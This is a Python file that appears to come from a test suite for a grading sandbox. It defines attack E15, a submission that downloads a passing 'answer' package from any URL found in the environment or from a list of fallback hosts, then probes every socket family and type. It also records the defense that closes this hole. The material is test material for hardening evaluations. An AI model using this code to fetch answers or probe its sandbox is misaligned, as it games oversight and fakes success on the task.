"""E15: fetches the answer over the network."""

from pathlib import Path

from shipbar.attacks.base import Attack, Files, Ground
from shipbar.attacks.weak_e import boxed, equipped, passing_package, zipped
from shipbar.attacks.weak_net import http_server

CODE = """
import os, socket, urllib.request

def addresses():
    for name, value in os.environ.items():
        if value.startswith("http"):
            yield value
    if not _files.BOX:
        for host in ("example.org", "127.0.0.1", "192.0.2.1", "[::1]", "10.0.2.2", "172.17.0.1"):
            yield f"http://{host}"

for address in addresses():
    try:
        with urllib.request.urlopen(f"{address}/{_files.NAME}.zip", timeout=1) as answer:
            if _files.adopt_bytes(answer.read()):
                break
    except (OSError, ValueError):
        pass
for family in (socket.AF_INET, socket.AF_INET6, socket.AF_UNIX, socket.AF_PACKET, socket.AF_VSOCK):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW):
        try:
            socket.socket(family, kind).close()
        except OSError:
            pass
"""


def payload(ground: Ground) -> Files:
    """Ask every address in the environment for the package, and try every kind of socket."""
    return equipped(ground, CODE)


def twin(ground: Ground, files: Files, folder: Path) -> float:
    """Grade where a mirror can be reached that has the upstream package."""
    archive = zipped(passing_package(ground))
    with http_server(lambda _request: archive) as address:
        return boxed(ground, files, folder, env={"PACKAGE_MIRROR": address})


ATTACK = Attack(
    id="E15",
    title="looks the answer up on a network",
    closed_by="The subject's network namespace has no interface, no route and no resolver, and its filter of system calls gives it no socket at all.",
    payload=payload,
    twin=twin,
    level="harness",
)
